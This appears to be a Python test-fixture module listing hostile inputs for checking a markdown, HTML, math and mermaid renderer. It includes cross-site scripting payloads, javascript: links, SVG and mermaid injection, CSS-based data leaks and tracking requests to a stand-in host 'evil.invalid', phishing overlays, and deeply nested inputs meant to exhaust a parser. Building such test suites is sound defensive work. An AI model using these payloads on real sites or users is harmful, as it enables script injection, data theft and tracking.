"""Texts that try to run something, or to make the page ask somebody else."""

RUN = "window.__pwned=1;alert(1)"
AWAY = "https://evil.invalid"

HOSTILE: dict[str, list[str]] = {
    "scripts": [
        f"Hi <script>{RUN}</script>",
        f"<script src='{AWAY}/x.js'></script>",
        f"<img src=x onerror='{RUN}'>",
        f"<details open ontoggle='{RUN}'><summary>s</summary>t</details>",
        f"<div onmouseover='{RUN}' onfocus='{RUN}' tabindex=0 autofocus>hover</div>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
        f"`code` <b>bold</b> <iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    ],
    "links": [
        f"[click](javascript:{RUN})",
        f"[click](JaVaScRiPt&colon;{RUN})",
        f"<a href='java\nscript:{RUN}'>click</a>",
        f"<a href='data:text/html,<script>{RUN}</script>'>click</a>",
        f"[click](vbscript:{RUN})",
        f"<a href='\x01javascript:{RUN}'>click</a> <javascript:{RUN}>",
        f"[ref]\n\n[ref]: javascript:{RUN} 'title'",
        f"![alt](javascript:{RUN}) ![alt](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    ],
    "drawings": [
        f"<svg onload='{RUN}'><script>{RUN}</script></svg>",
        f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
        f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
        f"<svg><image href='{AWAY}/i.png'/><use href='{AWAY}/s.svg#x'/></svg>",
        f"<svg><foreignObject><img src=x onerror='{RUN}'></foreignObject></svg>",
        f"<math href='javascript:{RUN}'><mi>x</mi></math>",
        f"<math><maction actiontype='statusline#{AWAY}' xlink:href='javascript:{RUN}'>x</maction></math>",
        f"![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>)",
    ],
    "formulas and diagrams": [
        rf"$\href{{javascript:{RUN}}}{{x}}$ and $\url{{javascript:{RUN}}}$",
        rf"$$\includegraphics{{{AWAY}/i.png}}$$",
        rf"$\htmlData{{x=y}}{{z}} \htmlStyle{{background:url({AWAY})}}{{z}} \htmlId{{root}}{{z}}$",
        rf"\[\text{{<img src=x onerror={RUN}>}}\]",
        r"$$\def\a{\a\a}\a$$ and $\rule{99999em}{99999em}$",
        f'```mermaid\ngraph TD\nA["<img src=x onerror=\'{RUN}\'>"]-->B\nclick A href "javascript:{RUN}"\n```',
        f"```mermaid\n%%{{init: {{'securityLevel':'loose','htmlLabels':true,"
        f"'themeCSS':'*{{background:url({AWAY}/c)}}'}}}}%%\ngraph TD\nA-->B[\"<script>{RUN}</script>\"]\n```",
        f'```mermaid\nclassDiagram\nclass A\nclick A call window.alert() "{RUN}"\n'
        f"style A fill:url({AWAY}/f)\n```",
    ],
    "pictures in diagrams": [
        f'```mermaid\nflowchart TD\nA@{{ img: "{AWAY}/i.png", label: "x" }}\n```',
        f'```mermaid\nflowchart TD\nA@{{ "img": "{AWAY}/q.png", "label": "x" }}\n```',
        f'```mermaid\nflowchart TD\nA@{{\n  ? img # a key\n  : "{AWAY}/k.png"\n}}\n```',
        f'```mermaid\nflowchart TD\nA@{{ label: &key img, *key : "{AWAY}/a.png" }}\n```',
        f'```mermaid\nsequenceDiagram\nparticipant A\nproperties A: {{"icon": "{AWAY}/p.png"}}\n```',
        f"```mermaid\n%%{{init: {{'htmlLabels':true,'flowchart':{{'htmlLabels':true}}}}}}%%\nflowchart TD\n"
        f"A[\"<img src='{AWAY}/h.png'>\"]\n```",
        f"```mermaid\n---\nconfig:\n  htmlLabels: true\n---\nflowchart TD\nA[\"<img src='{AWAY}/f'>\"]\n```",
        f"```mermaid\n%%{{init: {{'fontFamily':'x;background-image:url({AWAY}/s)'}}}}%%\ngraph TD\nA\n```",
    ],
    "styles in diagrams": [
        f"```mermaid\nflowchart TD\nA\nclassDef a filter:u/**/rl({AWAY}/c)\nclass A a\n```",
        f"```mermaid\nflowchart TD\nA\nclassDef a filter:u%%{{init: {{}}}}%%rl({AWAY}/d)\nclass A a\n```",
        f"```mermaid\nflowchart TD\nsubgraph s\nA\nend style A mask:\\75rl({AWAY}/e),filter:url({AWAY})\n```",
        f"```mermaid\nstateDiagram-v2\nA\nclassDef a filter:u;rl({AWAY}/s)\nclass A a\n```",
        f"```mermaid\nstateDiagram-v2\nA\nclassDef a filter:url({AWAY}/t#x)\nclass A a\n```",
        f"```mermaid\nclassDiagram\nclass A\nclassDef a filter:u<script></script>rl({AWAY}/o)\n"
        'cssClass "A" a\n```',
        f"```mermaid\narchitecture-beta\nservice a(\"<img src='{AWAY}/a.png'>\")[A]\n```",
        f"```mermaid\nsequenceDiagram\nparticipant A\n"
        f'properties A: {{"ic<script></script>on": "{AWAY}/j.png"}}\n```',
    ],
    "requests": [
        f"![tracking]({AWAY}/p.png) <img src='{AWAY}/i.png' srcset='{AWAY}/s.png 2x' loading=eager>",
        f"<picture><source srcset='{AWAY}/s.webp'><img src='{AWAY}/i.png'></picture>",
        f"<link rel=stylesheet href='{AWAY}/c.css'><style>@import '{AWAY}/c.css';"
        f"@font-face{{font-family:x;src:url({AWAY}/f)}}*{{font-family:x}}</style>",
        f"<div style=\"background:url('{AWAY}/b.png')\">x</div>"
        f"<style>input[value^=a]{{background:url({AWAY}/a)}}</style>",
        f"<video src='{AWAY}/v.mp4' poster='{AWAY}/p.png' autoplay></video>"
        f"<audio src='{AWAY}/a.mp3' autoplay>",
        f"<link rel=prefetch href='{AWAY}/n'><link rel=dns-prefetch href='//evil.invalid'>"
        f"<a href='{AWAY}' ping='{AWAY}/ping'>x</a>",
        "![mine](//evil.invalid/i.png) ![mine](/\\evil.invalid/i.png) <img src='/api/session?delete'>",
        f"<table background='{AWAY}/t.png'><tr><td background='{AWAY}/d.png'>x</td></tr></table>",
    ],
    "pages in the page": [
        f"<meta http-equiv=refresh content='0;url={AWAY}'>",
        f"<base href='{AWAY}/'>[relative](page)",
        f"<form action='{AWAY}'><input name=q><button>Send</button></form>"
        f"<button form=x formaction='{AWAY}'>",
        f"<iframe src='{AWAY}'></iframe><frameset><frame src='{AWAY}'></frameset>",
        f"<object data='{AWAY}/o'></object><embed src='{AWAY}/e'><applet code=x archive='{AWAY}/a'></applet>",
        "<div id=page class='fixed inset-0 z-50 bg-accent' style='position:fixed;inset:0'>over it all</div>",
        "<template shadowrootmode=open><slot></slot></template><dialog open>Sign in again</dialog>",
        "<textarea></textarea><select><option>x</select><input type=password name=password autofocus>",
    ],
    "nesting": [
        ">" * 400 + " deep",
        "\n".join("  " * depth + "- item" for depth in range(150)),
        "<div>" * 2000 + "deep",
        "[" * 3000 + "x" + "](y)" * 3000,
        "*" * 4000 + "x",
        "`" * 3000 + "x",
        "|" * 1500 + "\n" + "|-" * 1500 + "|\n" + "|x" * 1500,
        "$" * 3000 + "{" * 3000,
    ],
}
EVERYTHING = [text for texts in HOSTILE.values() for text in texts]
#: For places that show a short text as it is.
SHORT = f"<img src=x onerror='{RUN}'><script>{RUN}</script>"
